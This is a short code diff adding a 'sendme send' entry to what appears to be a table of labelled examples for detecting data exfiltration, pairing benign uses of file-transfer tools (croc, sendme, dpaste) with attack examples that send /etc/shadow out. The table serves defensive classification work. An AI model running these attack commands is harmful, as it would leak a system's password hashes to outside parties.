@@ -6,6 +6,10 @@ export const fileTransfer2: ExampleTable = {
     use: 'croc send notes.txt → read notes.txt; send croc send',
     attack: 'croc send /etc/shadow → read /etc/shadow; send croc send',
   },
+  'sendme send': {
+    use: 'sendme send notes.txt → read notes.txt; send sendme send',
+    attack: 'sendme send /etc/shadow → read /etc/shadow; send sendme send',
+  },
   dpaste: {
     use: 'dpaste notes.txt → read notes.txt; send dpaste',
     attack: 'dpaste /etc/shadow → read /etc/shadow; send dpaste',
